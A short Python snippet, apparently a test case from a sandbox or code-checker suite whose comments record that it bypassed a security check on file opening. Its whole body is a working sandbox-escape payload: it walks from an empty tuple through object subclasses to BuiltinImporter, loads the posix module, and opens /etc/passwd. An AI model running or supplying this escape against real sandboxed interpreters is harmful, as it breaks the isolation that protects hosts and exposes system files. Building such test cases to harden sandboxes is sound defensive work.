# Walks from a tuple to all classes, in plain words.
# checked: invalid_code
# bypassed: security_violation openat
for kind in ().__class__.__base__.__subclasses__():
    if kind.__name__ == 'BuiltinImporter':
        kind.load_module('posix').open('/etc/passwd', 0)
